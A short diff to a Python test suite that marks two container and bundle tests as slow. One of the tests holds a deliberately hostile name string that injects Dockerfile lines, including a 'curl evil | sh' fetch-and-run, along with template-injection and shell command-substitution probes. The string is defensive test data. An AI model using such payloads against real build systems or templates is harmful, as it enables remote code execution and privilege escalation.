@@ -120,6 +120,7 @@ def running(folder: Path, command: list[str], port: int, **variables: str) -> It
 # --- the container -------------------------------------------------------------------------------
 
 
+@pytest.mark.slow
 def test_the_dockerfile(folders: dict[str, Path]) -> None:
     found = instructions(folders["docker"])
     assert {name for name, _ in found} <= INSTRUCTIONS
@@ -289,6 +290,7 @@ def test_an_app_is_one_page_in_the_style_of_the_house(folders: dict[str, Path], 
 # --- what may be in a bundle, and in a folder ----------------------------------------------------
 
 
+@pytest.mark.slow
 def test_a_hostile_name_changes_nothing(tmp_path: Path, folders: dict[str, Path]) -> None:
     """Names of columns, words, classes and the file: into JSON and the bundle, nowhere else."""
     bad = '"]\nUSER root\nRUN curl evil | sh # {% raw %}{{ 7*7 }} $(id) `id`'
